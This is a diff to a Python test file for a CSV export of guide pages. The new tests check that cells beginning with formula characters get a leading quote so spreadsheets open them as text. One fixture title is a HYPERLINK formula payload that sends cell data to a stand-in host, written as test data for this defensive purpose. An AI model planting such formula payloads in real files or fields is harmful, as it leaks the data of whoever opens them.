@@ -98,9 +98,21 @@ def test_csv_export_of_an_empty_selection_is_just_the_header(client, library, ca
     assert body.decode("utf-8").splitlines() == [",".join(COLUMNS)]
 
 
-def test_csv_export_is_open_data_and_keeps_values_as_written(client, library):
-    """Read by programs, not spreadsheets: no quote is added to text that starts with "=" or "-"."""
-    GuidePageFactory(parent=library, title="=Guía de catastro", summary="-2 puntos de mejora")
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_opened_as_text(client, library):
+    """Anyone may publish a practice and anyone downloads the file, often into a spreadsheet: a
+    title that starts a formula gets a leading quote, as in the staff exports (see README)."""
+    GuidePageFactory(
+        parent=library,
+        title='=HYPERLINK("http://example.org/robar?d="&A1,"Guía de catastro")',
+        summary="-2 puntos de mejora",
+    )
     _, body = download(client, f"{library.url}csv/")
     (row,) = read_rows(body)
-    assert (row["titulo"], row["resumen"]) == ("=Guía de catastro", "-2 puntos de mejora")
+    assert row["titulo"] == """'=HYPERLINK("http://example.org/robar?d="&A1,"Guía de catastro")"""
+    assert row["resumen"] == "'-2 puntos de mejora"
+
+
+def test_a_filtered_csv_quotes_formulas_too(client, library):
+    GuidePageFactory(parent=library, title="@SUM(A1:A9) en la guía", sectors=["salud"])
+    _, body = download(client, f"{library.url}csv/?sector=salud")
+    assert [row["titulo"] for row in read_rows(body)] == ["'@SUM(A1:A9) en la guía"]
